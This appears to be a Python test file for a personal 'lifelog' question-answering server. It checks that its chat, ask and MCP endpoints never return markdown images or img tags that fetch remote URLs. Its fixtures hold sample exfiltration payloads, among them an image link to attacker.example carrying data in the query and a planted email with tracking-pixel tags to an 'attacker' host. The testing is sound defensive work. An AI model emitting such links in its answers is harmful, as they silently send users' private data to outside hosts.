"""Over a real server on loopback: streamed answers carry only checked, inert text, and no
surface (/v1, /api/ask, MCP) hands a client a construct that fetches (issue 10, 1 and 2)."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import anyio
import httpx
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from mcp.types import TextContent
from server_helpers import AUTH, CAMPING, sse_events, use_llm

from lifelog import Item, Memory
from lifelog.models.testing import ScriptedLLM
from lifelog.server.serialize import FOOTNOTES_MARK
from markdown_requests import requests_in

LEAK = "![s](http://attacker.example/?d=1234)"
FALSE = "We went camping in Madrid with 40 astronauts"
HOSTILE_DRAFT = f"<think>I will show ![x](http://attacker.example/t.png)</think>{FALSE} [1]. {LEAK}"
#: a planted mail whose quoted sentence holds a link and an image (and so does its sender)
KAYAK = "When is the kayak trip to Berlenga booked?"
HOSTILE_MAIL = Item(
    source="mbox",
    key="<kayak@example.org>",
    kind="email",
    author="Tours <img src=http://attacker:8080/from>",
    title="Kayak trip",
    text=(
        "Hello! ![](http://attacker:8080/pixel) <img src=http://attacker:8080/track>"
        " The kayak trip to Berlenga is booked for August. See you there."
    ),
    timestamp=datetime(2023, 7, 2, 9, tzinfo=UTC),
)


def chat_stream(server: str, question: str, **body: Any) -> list[dict[str, Any]]:
    request = {
        "model": "lifelog",
        "stream": True,
        "messages": [{"role": "user", "content": question}],
    }
    with httpx.stream(
        "POST", f"{server}/v1/chat/completions", json={**request, **body}, headers=AUTH, timeout=60
    ) as response:
        assert response.status_code == 200
        events = [data for _event, data in sse_events(response.iter_lines())]
    assert events[-1] == "[DONE]"
    return [json.loads(e) for e in events[:-1]]


def deltas(chunks: list[dict[str, Any]], key: str) -> list[str]:
    return [c["choices"][0]["delta"].get(key) or "" for c in chunks if c.get("choices")]


def test_v1_streams_no_unchecked_draft(server: str, memory: Memory) -> None:
    use_llm(memory, ScriptedLLM([HOSTILE_DRAFT, HOSTILE_DRAFT], chunk_size=3))
    chunks = chat_stream(server, CAMPING, reasoning_effort="none")
    for chunk in chunks:
        assert "attacker" not in json.dumps(chunk["choices"]) if "choices" in chunk else True
    content = deltas(chunks, "content")
    transcript = "".join(content)
    assert "Madrid" not in transcript and "attacker" not in transcript
    assert requests_in(transcript) == []
    assert requests_in("".join(deltas(chunks, "reasoning_content"))) == []
    final = chunks[-1]
    assert final["choices"][0]["finish_reason"] == "stop"
    assert final["lifelog"]["mode"] == "extractive-fallback"
    assert transcript.split(FOOTNOTES_MARK)[0] == final["lifelog"]["text"]
    plain = httpx.post(
        f"{server}/v1/chat/completions",
        json={"model": "lifelog", "messages": [{"role": "user", "content": CAMPING}]},
        headers=AUTH,
        timeout=60,
    ).json()
    assert transcript == plain["choices"][0]["message"]["content"], "the client's transcript"


def test_api_ask_streams_no_unchecked_draft(server: str, memory: Memory) -> None:
    use_llm(memory, ScriptedLLM([HOSTILE_DRAFT], chunk_size=3))
    with httpx.stream(
        "POST", f"{server}/api/ask", json={"question": CAMPING}, headers=AUTH, timeout=60
    ) as response:
        events = list(sse_events(response.iter_lines()))
    kinds = [kind for kind, _data in events]
    assert kinds[-1] == "answer" and "progress" in kinds
    for kind, data in events[:-1]:
        assert "attacker" not in data and "Madrid" not in data, (kind, data)
    answer = json.loads(events[-1][1])
    tokens = "".join(json.loads(d)["text"] for kind, d in events if kind == "token")
    assert tokens == answer["text"]
    assert requests_in(answer["reasoning"] or "") == []


def test_quoted_evidence_is_inert_on_every_surface(server: str, memory: Memory) -> None:
    memory.store.upsert([HOSTILE_MAIL], origin=None, run_id=None)
    use_llm(memory, None)  # extractive: the answer quotes the hostile mail
    texts: list[str] = []

    asked = httpx.post(
        f"{server}/api/ask", json={"question": KAYAK, "stream": False}, headers=AUTH, timeout=60
    ).json()
    assert "Berlenga" in asked["text"]
    texts += [asked["text"], *(c["snippet"] for c in asked["citations"])]

    completion = httpx.post(
        f"{server}/v1/chat/completions",
        json={"model": "lifelog", "messages": [{"role": "user", "content": KAYAK}]},
        headers=AUTH,
        timeout=60,
    ).json()
    content = completion["choices"][0]["message"]["content"]
    assert "Berlenga" in content and FOOTNOTES_MARK in content
    texts += [content, *(c["snippet"] for c in completion["citations"])]
    texts.append("".join(deltas(chat_stream(server, KAYAK), "content")))

    async def over_mcp() -> dict[str, Any]:
        with anyio.fail_after(60):
            async with create_mcp_http_client(headers=dict(AUTH)) as http:
                transport = streamable_http_client(f"{server}/mcp", http_client=http)
                async with Client(transport) as client:
                    result = await client.call_tool("ask", {"question": KAYAK})
        [item] = result.content
        assert isinstance(item, TextContent)
        data: dict[str, Any] = json.loads(item.text)
        return data

    answer = anyio.run(over_mcp)
    assert "Berlenga" in answer["text"]
    texts += [answer["text"], *(c["snippet"] for c in answer["citations"])]

    for text in texts:
        assert requests_in(text) == [], text
    assert all("‹img" in text for text in texts[:1]), "the person's data is shown, not dropped"
